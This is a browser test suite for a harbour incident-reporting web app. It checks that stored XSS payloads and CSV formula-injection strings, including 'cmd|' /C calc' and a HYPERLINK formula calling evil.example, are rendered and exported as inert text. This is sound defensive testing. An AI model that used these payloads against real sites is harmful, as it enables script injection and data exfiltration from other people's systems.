"""Stored cross-site scripting: what a reporter types never runs in a contact person's browser.

Each payload goes through the real report endpoint into every free-text field, and into the
contact persons' note. The contact person then opens the inbox, every report, the printable
page and the CSV export in Chromium. Escaping must stop every payload by itself: the CSP is
the second line, so a `securitypolicyviolation` means escaping failed even if nothing ran.
"""

import csv
import io

import pytest
from playwright.sync_api import expect
from sqlalchemy import select

from pwa import rate_limits
from pwa.auth.accounts import create_account
from pwa.extensions import db
from pwa.inbox.exports import FORMULA_STARTS
from pwa.models import Harbour, Report
from tests.browser.helpers import wait_for_receipt
from tests.staff import KIM, PASSWORD

FREE_TEXT_FIELDS = ("place", "vehicle", "direction", "what_happened")
#: Each would set window.__xss or open a dialog if it reached the page as markup.
PAYLOADS = [
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=1">',
    "<svg onload=window.__xss=1>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(2)>",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>alert(3)</script>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    '<a href="javascript:window.__xss=1">map</a>',
    "javascript:alert(4)",
    "{{7*7}} ${7*7} {% raw %}",
    '=HYPERLINK("http://evil.example/?"&A1;"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
#: What any payload above would leave in the page had it been rendered as markup.
INJECTED = (
    "main script, main img[src='x'], main svg, main iframe, main details[ontoggle], "
    "main input[onfocus], main a[href^='javascript:']"
)
#: Run before any script of the page: counts what the CSP had to stop.
WATCH_CSP = """
window.__cspViolations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__cspViolations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});
"""
SEND = """async ({ payload, harbour }) => {
  const body = new URLSearchParams({
    client_id: crypto.randomUUID(),
    harbour,
    observed_at: document.querySelector("#observed_at").value,
    categories: "other",
    place: payload,
    vehicle: payload,
    direction: payload,
    what_happened: payload,
  });
  const response = await fetch(location.pathname, {
    method: "POST", body, headers: { Accept: "application/json" },
  });
  return response.status;
}"""


@pytest.fixture
def kim(live_app):
    """A contact person of the guest harbour; return that harbour's id."""
    with live_app.app_context():
        guest = db.session.scalar(select(Harbour).filter_by(name="Oxelösunds gästhamn"))
        create_account(KIM, "Kim Kontakt", PASSWORD, harbours=[guest])
        db.session.commit()
        return guest.id


@pytest.fixture
def watched(browser, live_server, live_app):
    """A page that records dialogs and CSP violations; no service worker to cache anything."""
    rate_limits.reset(live_app)
    context = browser.new_context(
        base_url=live_server, locale="sv-SE", service_workers="block", accept_downloads=True
    )
    context.add_init_script(WATCH_CSP)
    page = context.new_page()
    page.dialogs = []

    def dismiss(dialog):
        page.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    yield page
    context.close()
    rate_limits.reset(live_app)


def assert_nothing_ran(page):
    assert page.dialogs == [], f"a dialog opened on {page.url}"
    assert page.evaluate("() => window.__xss") is None, f"a payload ran on {page.url}"
    assert page.evaluate("() => window.__cspViolations") == [], (
        f"escaping failed on {page.url}: only the CSP stopped a payload"
    )
    assert page.locator(INJECTED).count() == 0, f"markup was injected on {page.url}"


def send_through_the_form(live_app, page, payload):
    """Type the payload into every free-text field of the report form and send it."""
    page.goto("/sv/report")
    page.locator("#harbour").select_option(label="Oxelösunds gästhamn")
    page.locator("#categories-other").check()
    for field in FREE_TEXT_FIELDS:
        page.locator(f"#{field}").fill(payload)
    page.get_by_role("button", name="Skicka rapporten").click()
    wait_for_receipt(page, live_app, "sv")


def log_in(page):
    page.goto("/sv/login")
    page.locator("#email").fill(KIM)
    page.locator("#password").fill(PASSWORD)
    page.get_by_role("button", name="Logga in").click()
    page.wait_for_url("**/sv/inbox/")


def test_stored_payloads_are_shown_as_text_and_exported_as_text(live_app, watched, kim):
    page = watched
    send_through_the_form(live_app, page, PAYLOADS[0])
    assert_nothing_ran(page)
    page.goto("/sv/report")
    for payload in PAYLOADS[1:]:
        assert page.evaluate(SEND, {"payload": payload, "harbour": str(kim)}) == 201, payload
    with live_app.app_context():
        stored = db.session.scalars(select(Report).order_by(Report.id)).all()
        assert [report.what_happened for report in stored] == PAYLOADS
        assert all(
            getattr(report, field) == report.what_happened
            for report in stored
            for field in FREE_TEXT_FIELDS
        )
        # A contact person's note is free text too: written by a colleague, read by the others.
        for report in stored:
            report.note = report.what_happened
        db.session.commit()
        ids = [report.id for report in stored]

    log_in(page)
    assert_nothing_ran(page)
    listed = page.locator("#report-list").inner_text()
    for payload in PAYLOADS:
        assert payload in listed

    for report_id, payload in zip(ids, PAYLOADS, strict=True):
        page.goto(f"/sv/inbox/{report_id}")
        assert_nothing_ran(page)
        details = page.locator(".report-details")
        for term in ("Var i hamnen", "Fordon eller båt", "Färdriktning", "Vad som hände"):
            value = details.locator("dt", has_text=term).locator("xpath=following-sibling::dd[1]")
            expect(value).to_have_text(payload)
        expect(page.locator("#note")).to_have_value(payload)

    page.goto("/sv/inbox/")
    # The note goes to the police only when chosen: chosen here, to see it printed as text.
    page.get_by_role("checkbox", name="Anteckningen som bara kontaktombud ser").check()
    page.get_by_role("button", name="Utskriftsvänlig sida").click()
    page.wait_for_url("**/sv/inbox/print")
    assert_nothing_ran(page)
    expect(page.get_by_role("button", name="Skriv ut")).to_be_visible()
    printed = page.locator(".printed-report .free-text").all_inner_texts()
    assert sorted(printed) == sorted(PAYLOADS * (len(FREE_TEXT_FIELDS) + 1))

    page.goto("/sv/inbox/")
    page.get_by_role("checkbox", name="Anteckningen som bara kontaktombud ser").check()
    with page.expect_download() as download:
        page.get_by_role("button", name="Exportera som CSV").click()
    # An attachment is saved, never opened as a page in the browser.
    assert download.value.suggested_filename.startswith("batsamverkan-")
    assert page.url.endswith("/sv/inbox/")
    assert_nothing_ran(page)
    with open(download.value.path(), encoding="utf-8-sig", newline="") as file:
        header, *rows = csv.reader(file, delimiter=";")
    columns = [
        header.index(name)
        for name in (
            "Var i hamnen",
            "Fordon eller båt",
            "Färdriktning",
            "Vad som hände",
            "Anteckning",
        )
    ]
    neutralised = {"'" + payload if payload[0] in "=+-@" else payload for payload in PAYLOADS}
    assert {row[columns[-1]] for row in rows} == neutralised
    for row in rows:
        cells = [row[column] for column in columns]
        assert len(set(cells)) == 1 and cells[0] in neutralised
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row

    # As the page's form posts it: with the session's token.
    token = page.locator(".export-links input[name=csrf_token]").input_value()
    response = page.request.post(
        "/sv/inbox/export.csv", form={"csrf_token": token, "include_note": "y"}
    )
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    body = response.body().decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body), delimiter=";")) == [header, *rows]


def test_the_receipt_page_shows_no_fragment_but_a_code(watched):
    """The receipt page writes what is after `#` into itself only when it is a code."""
    page = watched
    page.goto("/sv/report/receipt")
    for payload in PAYLOADS:
        # Each a change of the fragment alone: the page's own hashchange handler reads it.
        page.evaluate("(payload) => { location.hash = payload; }", payload)
        expect(page.locator("[data-no-receipt]")).to_be_visible()
        expect(page.locator("[data-receipt] .reference")).to_have_text("")
        assert_nothing_ran(page)
    for payload in PAYLOADS:
        page.goto(f"/sv/report/receipt#{payload}")
        expect(page.locator("[data-no-receipt]")).to_be_visible()
        assert_nothing_ran(page)
